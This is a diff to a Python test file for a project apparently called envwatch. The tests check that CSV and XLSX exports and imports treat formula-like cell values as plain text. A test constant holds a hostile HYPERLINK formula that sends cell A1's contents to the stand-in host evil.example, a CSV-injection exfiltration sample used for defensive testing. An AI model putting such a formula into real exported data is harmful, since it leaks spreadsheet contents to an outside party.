@@ -12,6 +12,7 @@ from openpyxl import load_workbook
 from envwatch.registry.export import write_export
 from envwatch.registry.importing import ImportKind, read_table
 from envwatch.spreadsheet import FORMULA_STARTS, cell_text, safe_cell
+from envwatch.web.table_export import table_bytes
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
@@ -46,3 +47,15 @@ def test_an_enterprise_named_like_a_formula_is_text_in_csv_and_xlsx_and_imports_
     for name, content in (("e.csv", csv_bytes), ("e.xlsx", xlsx_bytes)):
         (read,) = read_table(name, content, ImportKind.ENTERPRISES)
         assert read["企业名称"] == HOSTILE, name
+
+
+def test_a_downloaded_table_holds_no_formula() -> None:
+    columns = [("name", "名称"), ("value", "数值")]
+    rows = [{"name": "=HYPERLINK(1)", "value": 3.5}, {"name": "断面", "value": None}]
+    text = table_bytes(columns, rows, "csv").decode("utf-8")
+    assert text == "\ufeff名称,数值\r\n'=HYPERLINK(1),3.5\r\n断面,\r\n"
+    sheet = load_workbook(io.BytesIO(table_bytes(columns, rows, "xlsx"))).active
+    assert sheet is not None
+    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
+        ["名称", "数值"], ["'=HYPERLINK(1)", 3.5], ["断面", None],
+    ]  # fmt: skip
